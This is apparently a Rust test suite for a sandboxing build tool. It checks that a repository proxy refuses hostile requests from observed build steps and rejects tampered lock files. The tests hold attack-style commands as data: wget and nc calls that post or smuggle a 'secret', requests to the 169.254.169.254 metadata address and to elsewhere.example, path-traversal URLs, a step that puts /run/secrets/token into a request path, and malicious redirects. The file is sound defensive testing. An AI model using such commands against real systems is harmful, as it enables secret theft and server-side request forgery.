//! What foreign code tries while it is observed, and what a hostile repository or lock tries; each with a control.

use bulla_testkit::{Fault, MavenRepository, Project, Ran};

use super::{
    maven::{ASKS, JAR, observe, project, world},
    modules::configure,
    world::World,
};

const BASE: &str = "b=http://127.0.0.1:8417/maven; j=$b/org/acme/thing/1.0/thing-1.0.jar; mkdir -p out; ";

/// Observes a step that goes on whatever it is answered, and gives what was told, and what the repository was asked for.
fn tries(world: &World, repository: &MavenRepository, step: &str) -> (Ran, Vec<String>, Project) {
    let project = project("", &[&format!("{BASE}{step}")]);
    let ran = observe(&world.environment, &project, &[]);
    (ran, repository.asked(), project)
}

#[test]
fn nothing_but_get_and_head_of_paths_of_a_repository_is_passed_on() {
    let repository = MavenRepository::serve(&[(JAR, b"the jar")]);
    let Some(world) = world("foreign requests while it is observed", &repository) else { return };
    let say = |lines: &str| format!("printf '{lines}' | nc 127.0.0.1 8417 >out/said; cat out/said");
    let request =
        |line: &str| say(&format!("{line} HTTP/1.1\\r\\nHost: 127.0.0.1:8417\\r\\nConnection: close\\r\\n\\r\\n"));
    let path = format!("/maven/{JAR}");
    for (step, refused) in [
        ("busybox wget -q -O - --post-data secret $j || true".to_owned(), format!("POST {path}")),
        (
            say(&format!("PUT {path} HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 6\\r\\n\\r\\nsecret")),
            format!("PUT {path}"),
        ),
        (
            say(&format!("GET {path} HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 6\\r\\n\\r\\nsecret")),
            format!("GET {path}"),
        ),
        (request(&format!("DELETE {path}")), format!("DELETE {path}")),
        ("busybox wget -q -O - \"$j?q=secret\" || true".to_owned(), format!("GET {path}?q=secret")),
        ("busybox wget -q -O - $b/secret || true".to_owned(), "GET /maven/secret".to_owned()),
        ("busybox wget -q -O - http://127.0.0.1:8417/npm/secret || true".to_owned(), "GET /npm/secret".to_owned()),
        (
            say(
                "GET http://elsewhere.example/secret HTTP/1.1\\r\\nHost: elsewhere.example\\r\\nConnection: close\\r\\n\\r\\n",
            ),
            "GET http://elsewhere.example/secret".to_owned(),
        ),
        (
            say(
                "GET http://169.254.169.254/latest/meta-data HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nConnection: close\\r\\n\\r\\n",
            ),
            "GET http://169.254.169.254/latest/meta-data".to_owned(),
        ),
        (request("CONNECT elsewhere.example:443"), "CONNECT elsewhere.example:443".to_owned()),
        (request("GET /maven/a/../../b/1/b-1.jar"), "GET /maven/a/../../b/1/b-1.jar".to_owned()),
        (request("GET /maven/a/%%2e%%2e/b/1/b-1.jar"), "GET /maven/a/%2e%2e/b/1/b-1.jar".to_owned()),
    ] {
        let (ran, asked, project) = tries(&world, &repository, &step);
        assert_eq!(asked, Vec::<String>::new(), "{step}: {}", ran.stderr);
        assert!(ran.stderr.contains(&refused), "{step}: {}", ran.stderr);
        assert!(!ran.success().stdout.contains("the jar") && !project.read("bulla.lock").contains("status = 200"));
    }
    // The control: what Maven asks for is passed on, and HEAD too.
    let (ran, asked, project) =
        tries(&world, &repository, &format!("busybox wget -q -O out/x $j; {}", request(&format!("HEAD {path}"))));
    assert_eq!(asked, [format!("/{JAR}"), format!("/{JAR}.sha1")], "{}", ran.stderr);
    assert!(project.read("bulla.lock").contains("status = 200"));
    // Directly nobody is reached, as ever.
    let step = format!("busybox wget -q -T 5 -O - {}/{JAR} || true", repository.url());
    let (ran, asked, _) = tries(&world, &repository, &step);
    assert_eq!(asked, Vec::<String>::new(), "{}", ran.stderr);
}

#[test]
fn a_message_in_paths_is_cut_short_and_pins_nothing() {
    let repository = MavenRepository::serve(&[(JAR, b"the jar")]);
    let Some(world) = world("a message in paths", &repository) else { return };
    let step = "for n in $(seq 12); do busybox wget -q -O - $b/org/secret$n/a/1/a-1.jar || true; done";
    let project = project("", &[&format!("{BASE}{step}")]);
    let ran = observe(&world.environment, &project, &["--absent", "5"]).failure(7);
    assert!(
        ran.stderr.contains("asked for more than 5 things that no registry has") && ran.stderr.contains("`--absent`"),
        "{}",
        ran.stderr
    );
    assert_eq!(repository.asked().len(), 6, "the one too many is asked for, and none after it");
    assert!(!project.read("bulla.lock").contains("[[observed]]"));
    // The control: within the budget all of them are asked for, and pinned as not there.
    let ran = observe(&world.environment, &project, &["--absent", "12"]).success();
    assert!(ran.stderr.contains("0 files of maven, 12 that are not there"), "{}", ran.stderr);
    assert_eq!(repository.asked().len(), 12);
    // A long part, or a long path, is no coordinate.
    let long = "n=$(printf '%0200d' 7); busybox wget -q -O - $b/org/$n/1/$n-1.jar || true";
    assert_eq!(tries(&world, &repository, long).1, Vec::<String>::new());
}

#[test]
fn budgets_of_requests_and_bytes_hold() {
    let repository = MavenRepository::serve(&[(JAR, &[7; 100_000]), ("a/b/1/b-1.jar", b"b")]);
    let Some(world) = world("budgets", &repository) else { return };
    let project = project("", &[&format!("{BASE}for n in 1 2 3 4 5 6; do busybox wget -q -O out/$n $j || true; done")]);
    let over = |arguments: &[&str], words: &str| {
        let ran = observe(&world.environment, &project, arguments).failure(7);
        assert!(ran.stderr.contains(words), "{}", ran.stderr);
        assert!(!project.read("bulla.lock").contains("[[observed]]"));
    };
    over(&["--requests", "5"], "made more than 5 requests");
    over(&["--bytes", "50KiB"], "asked for more than 51200 bytes");
    repository.mirror.fault(&format!("/{JAR}"), Fault::Endless);
    over(&["--bytes", "1MiB"], "asked for more than 1048576 bytes");
    // The control: within them it is good.
    repository.mirror.heal();
    observe(&world.environment, &project, &["--requests", "6", "--bytes", "200KiB"]).success();
}

#[test]
fn an_answer_that_is_not_what_its_checksum_says_pins_nothing() {
    let repository = MavenRepository::serve(&[(JAR, b"the jar")]);
    let Some(world) = world("a wrong answer while it is observed", &repository) else { return };
    let project = project("", &[ASKS]);
    repository.mirror.fault(&format!("/{JAR}"), Fault::Bytes(b"evil".to_vec()));
    let ran = observe(&world.environment, &project, &[]).failure(5);
    assert!(ran.stderr.contains("gives other bytes than its checksum says"), "{}", ran.stderr);
    assert!(!project.read("bulla.lock").contains("[[observed]]"));
    // A repository that cannot be asked pins nothing either: nobody knows what it would have said.
    repository.mirror.heal();
    repository.mirror.fault(&format!("/{JAR}"), Fault::Status { status: 403, times: 9, retry_after: None });
    assert_ne!(observe(&world.environment, &project, &[]).code, Some(0));
    assert!(!project.read("bulla.lock").contains("[[observed]]"));
    // Without any checksum it is pinned as what it is, and that is said.
    repository.mirror.heal();
    repository.put_alone(&format!("{JAR}.sha1"), b"");
    let ran = observe(&world.environment, &project, &[]).success();
    assert!(ran.stderr.contains("1 of them have no checksum in the registry"), "{}", ran.stderr);
    assert!(project.read("bulla.lock").contains("verified = \"nothing\""));
}

#[test]
fn a_repository_that_gives_other_bytes_later_is_refused() {
    let repository = MavenRepository::serve(&[(JAR, b"the jar")]);
    let Some(observed) = world("other bytes when it is replayed", &repository) else { return };
    let project = project("", &[ASKS]);
    observe(&observed.environment, &project, &[]).success();
    // Another machine, and another jar with its own good checksum.
    let Some(other) = world("other bytes when it is replayed", &repository) else { return };
    repository.put(JAR, b"evil");
    let ran = other.build(&project, &[]).failure(5);
    assert!(ran.stderr.contains("gives other bytes than the lock file says"), "{}", ran.stderr);
    repository.put(JAR, b"the jar");
    other.build(&project, &[]).success();
}

#[test]
fn an_edited_lock_is_no_lock() {
    let repository = MavenRepository::serve(&[(JAR, b"the jar")]);
    let Some(world) = world("an edited lock of what was observed", &repository) else { return };
    let project = project("", &[ASKS]);
    observe(&world.environment, &project, &[]).success();
    let lock = project.read("bulla.lock");
    for (from, to) in [
        (JAR, "org/acme/evil/1.0/evil-1.0.jar".to_owned()),
        ("status = 404", "status = 403".to_owned()),
        (&bulla_model::Digest::of("the jar").to_string(), bulla_model::Digest::of("evil").to_string()),
    ] {
        project.write("bulla.lock", lock.replace(from, &to));
        let ran = world.build(&project, &[]);
        assert_ne!(ran.code, Some(0));
        assert!(ran.stderr.contains("was changed by hand"), "{}", ran.stderr);
    }
    // Whoever makes the checksum fit still names no host, no query and no way out of the repository.
    for path in ["https://evil.example/a/b/1/b-1.jar", "a/../../b", "a/b?c", "/a/b"] {
        let text = lock.replace(JAR, path);
        let (head, body) = text
            .split_once("checksum = ")
            .and_then(|(head, rest)| Some((head, rest.split_once('\n')?.1)))
            .expect("a lock");
        project.write("bulla.lock", format!("{head}checksum = \"{}\"\n{body}", bulla_model::Digest::of(body)));
        let ran = world.build(&project, &[]);
        assert_ne!(ran.code, Some(0));
        assert!(ran.stderr.contains("this is not a clean relative path"), "{path}: {}", ran.stderr);
    }
}

#[test]
fn what_is_observed_has_no_secret_and_leaves_nothing() {
    let repository = MavenRepository::serve(&[(JAR, b"the jar")]);
    let Some(world) = world("secrets of a step that is observed", &repository) else { return };
    let step = format!(
        "{ASKS}\nif [ -s /run/secrets/token ]; then busybox wget -q -O - $b/a/$(cat /run/secrets/token)/1/x || true; fi; date >out/now"
    );
    let project = project("", &[&step]);
    let spec = project.read("bulla.yaml");
    let quoted = super::world::quoted(&step);
    let with =
        spec.replace(&format!("      - {quoted}\n"), &format!("      - run: {quoted}\n        secrets: [token]\n"));
    assert_ne!(with, spec);
    project.write("bulla.yaml", with);
    // Nobody gives one, and it is observed all the same.
    let ran = observe(&world.environment, &project, &[]).success();
    assert!(ran.stderr.contains("build: 1 files of maven"), "{}", ran.stderr);
    assert!(!ran.stderr.contains("refused"), "{}", ran.stderr);
    // What it left is no result: the build runs it.
    let file = project.path("token");
    fs_err::write(&file, "hidden-word").expect("a secret");
    let ran = world.build(&project, &["--secret", &format!("id=token,file={}", file.display())]).success();
    assert!(ran.stderr.contains("GET /maven/a/"), "the control: {}", ran.stderr);
}

#[test]
fn a_redirect_leads_to_no_metadata_address_and_takes_no_login_along() {
    let repository = MavenRepository::serve(&[(JAR, b"the jar")]);
    let elsewhere = MavenRepository::serve(&[(JAR, b"the jar")]);
    let Some(world) = World::new("redirects while it is observed") else { return };
    let host = repository.mirror.address();
    fs_err::write(
        world.environment.folder().join("home/.netrc"),
        format!("machine {} login me password hidden-word\n", host.ip()),
    )
    .expect("a login");
    configure(
        &world.environment,
        &format!("[registry.maven]\nmaven-settings = false\nrepositories = [\"{}\"]\n", repository.url()),
    );
    let project = project("", &[ASKS]);
    repository.mirror.fault(&format!("/{JAR}"), Fault::Redirect("http://169.254.169.254/latest/meta-data".to_owned()));
    let ran = observe(&world.environment, &project, &[]);
    assert_ne!(ran.code, Some(0));
    assert!(ran.stderr.contains("169.254.169.254"), "{}", ran.stderr);
    assert!(repository.mirror.requests().iter().all(|request| request.header("authorization").is_some()));
    repository.mirror.fault(&format!("/{JAR}"), Fault::Redirect(format!("{}/{JAR}", elsewhere.url())));
    drop(observe(&world.environment, &project, &[]));
    assert!(elsewhere.mirror.requests().iter().all(|request| request.header("authorization").is_none()));
}
